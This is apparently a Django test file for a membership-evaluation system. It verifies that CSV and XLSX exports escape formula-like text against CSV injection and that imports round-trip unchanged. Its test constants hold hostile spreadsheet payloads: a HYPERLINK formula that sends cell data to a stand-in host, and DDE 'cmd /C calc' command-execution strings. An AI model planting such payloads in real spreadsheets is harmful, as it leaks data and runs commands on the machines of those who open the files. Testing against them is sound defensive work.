"""Exports hand no spreadsheet a formula (OWASP, CSV injection): a text that starts like one
is quoted in a .csv file and quote-prefixed text in an .xlsx file, numbers and dates stay
numbers, and what was exported imports back unchanged."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import tempfile
from pathlib import Path

from django.test import TestCase

from xeploai.core.testing import make_cycle, make_evaluation, make_member, make_unit
from xeploai.cycles.models import LeaderEvaluation, Level, Status, Step, UnitEvaluation
from xeploai.formats_safe import formula_like
from xeploai.imports import files
from xeploai.imports.base import run_import
from xeploai.imports.kinds import KINDS, RESULTS, UNITS
from xeploai.imports.report import Report
from xeploai.members.models import (
    Discipline,
    DisciplineForm,
    Post,
    PostKind,
    StateLevel,
    StateResult,
    StatusKind,
    StatusPeriod,
    Transfer,
)
from xeploai.reviews.models import PeerKind, PeerResult, SelfReview
from xeploai.units.models import Unit, UnitKind

from .spreadsheet import cells

LINK = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'
COMMAND = "+1+cmd|' /C calc'!A0"
MINUS = "-1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
WIDE = "＝1+1"  # a full-width equals sign
HOSTILE = (LINK, COMMAND, MINUS, AT, WIDE)


class ExportFormulasTestCase(TestCase):
    def setUp(self) -> None:
        self.tmp = Path(tempfile.mkdtemp())
        district = make_unit(None, kind=UnitKind.DISTRICT, code="H1")
        commune = make_unit(district, kind=UnitKind.GRASSROOTS_COMMITTEE, code="X1", name=LINK)
        cell = make_unit(commune, code="CB1", name=COMMAND)
        other = make_unit(commune, code="CB2", name=WIDE)
        member = make_member(cell, code="DV1", full_name=MINUS, civil_servant=True)
        day = dt.date(2024, 3, 1)
        StatusPeriod.objects.create(member=member, kind=StatusKind.EXEMPT, start=day, reason=AT)
        Transfer.objects.create(member=member, from_cell=other, to_cell=cell, date=day, reason=LINK)
        Transfer.objects.create(
            member=member, from_outside=COMMAND, to_cell=cell, date=day + dt.timedelta(1)
        )
        Discipline.objects.create(
            member=member,
            form=DisciplineForm.REPRIMAND,
            decided=day,
            decision_number="=1+2",
            violated=day - dt.timedelta(30),
            violation_unit=cell,
            reason=MINUS,
        )
        post = Post.objects.create(
            member=member, kind=PostKind.PARTY, title=AT, unit=cell, organisation=WIDE, start=day
        )
        year_2024 = make_cycle(2024, closed=True)
        LeaderEvaluation.objects.create(
            cycle=year_2024, member=member, post=post, unit=cell,
            unit_path=cell.path, tier=post.tier, status=Status.EXEMPT, status_reason=LINK,
            label="Miễn đánh giá", step=Step.NOT_REVIEWED,
        )  # fmt: skip
        organisation = UnitEvaluation.objects.create(
            cycle=year_2024, unit=commune, unit_path=commune.path, status=Status.CLASSIFIED,
            level_final=Level.GOOD, step=Step.PUBLISHED,
        )  # fmt: skip
        PeerResult.objects.create(
            evaluation=organisation, kind=PeerKind.MASS, name=AT, level=Level.GOOD, source=MINUS
        )
        StateResult.objects.create(
            member=member,
            year=2024,
            level=StateLevel.GOOD,
            decision_number=COMMAND,
            decision_date=dt.date(2024, 12, 20),
        )
        cycle = make_cycle(2020, closed=True)
        exempt = make_evaluation(member, cycle, status=Status.EXEMPT, status_reason=LINK)
        SelfReview.objects.create(
            evaluation=exempt, form="IMPORT", sections={"strengths": COMMAND, "plan": AT}
        )

    def test_csv_cells_are_quoted_and_import_back_unchanged(self) -> None:
        written: list[str] = []
        for kind in KINDS.values():
            path = self.tmp / f"{kind.name}.csv"
            count = files.export(kind, path)
            with path.open(encoding="utf-8-sig", newline="") as f:
                found = [cell for row in csv.reader(f) for cell in row]
            self.assertEqual([c for c in found if formula_like(c)], [], kind.name)
            written += found
            report = run_import(kind, path)
            self.assertEqual((report.errors, report.unchanged), ([], count), kind.name)
        for text in HOSTILE:
            self.assertIn("'" + text, written)
        self.assertIn("'=1+2", written)
        self.assertEqual(Unit.objects.get(code="X1").name, LINK)

    def test_xlsx_cells_are_text_never_formulas_and_import_back_unchanged(self) -> None:
        texts: list[str] = []
        for kind in KINDS.values():
            path = self.tmp / f"{kind.name}.xlsx"
            count = files.export(kind, path)
            found = cells(path.read_bytes())
            self.assertEqual([c for c in found if c.formula], [], kind.name)
            unguarded = [c for c in found if formula_like(c.text) and not c.number]
            self.assertEqual([c for c in unguarded if not c.quote_prefix], [], kind.name)
            texts += [c.text for c in unguarded]
            report = run_import(kind, path)
            self.assertEqual((report.errors, report.unchanged), ([], count), kind.name)
        for text in (*HOSTILE, "=1+2"):
            self.assertIn(text, texts)

    def test_numbers_and_dates_stay_numbers_and_any_text_is_guarded(self) -> None:
        rows = [
            {"year": -5, "subject": "-1+cmd", "code": " =cmd", "result": "\t=cmd"},
            {"year": 2024, "subject": "\r=cmd", "code": "'=1", "result": "-"},
        ]
        csv_path, xlsx_path = self.tmp / "rows.csv", self.tmp / "rows.xlsx"
        files.write_rows(RESULTS, rows, csv_path)
        with csv_path.open(encoding="utf-8-sig", newline="") as f:
            body = list(csv.reader(f))[1:]
        self.assertEqual(
            [row[:4] for row in body],
            [["-5", "'-1+cmd", "' =cmd", "'\t=cmd"], ["2024", "'\r=cmd", "''=1", "'-"]],
        )
        files.write_rows(RESULTS, rows, xlsx_path)
        found = cells(xlsx_path.read_bytes())
        numbers = [c.text for c in found if c.number]
        self.assertEqual(numbers, ["-5", "2024"])
        texts = {c.text: c.quote_prefix for c in found if not c.number}
        for text in ("-1+cmd", " =cmd", "\t=cmd", "\r=cmd", "-"):
            self.assertTrue(texts[text], text)
        self.assertFalse(texts["'=1"])  # starts with a quote: a spreadsheet shows it as text
        files.write_rows(UNITS, [{"code": "X9", "founded": dt.date(1975, 5, 1)}], xlsx_path)
        self.assertIn("27515", [c.text for c in cells(xlsx_path.read_bytes()) if c.number])

    def test_the_importer_takes_off_only_the_quote_an_export_adds(self) -> None:
        path = self.tmp / "units.csv"
        path.write_text(
            "Mã đơn vị;Tên đơn vị;Loại;Mã đơn vị cấp trên;Ngày thành lập\n"
            "X8;'=SUM(A1:A9);Đảng bộ cơ sở;H1;01/05/1975\n"
            "X9;'Tên có dấu nháy;Đảng bộ cơ sở;H1;01/05/1975\n"
            "X7;''=1;Đảng bộ cơ sở;H1;01/05/1975\n",
            encoding="utf-8",
        )
        report = run_import(UNITS, path)
        self.assertEqual(report.errors, [])
        self.assertEqual(Unit.objects.get(code="X8").name, "=SUM(A1:A9)")
        self.assertEqual(Unit.objects.get(code="X9").name, "'Tên có dấu nháy")
        self.assertEqual(Unit.objects.get(code="X7").name, "'=1")

    def test_the_error_report_and_templates_write_text_as_text(self) -> None:
        report = Report()
        report.add(2, LINK, COMMAND)
        report.add(3, "Cột", MINUS)
        report.add(4, "Cột", LINK)
        found = cells(report.xlsx())
        self.assertEqual([c for c in found if c.formula], [])
        prefixed = {c.text for c in found if c.quote_prefix}
        self.assertEqual(prefixed, {LINK, COMMAND, MINUS})
        column = dataclasses.replace(UNITS.columns[1], example=AT)
        kind = dataclasses.replace(UNITS, columns=(UNITS.columns[0], column, *UNITS.columns[2:]))
        found = cells(files.template(kind))
        self.assertEqual([c for c in found if c.formula], [])
        self.assertIn(AT, {c.text for c in found if c.quote_prefix})
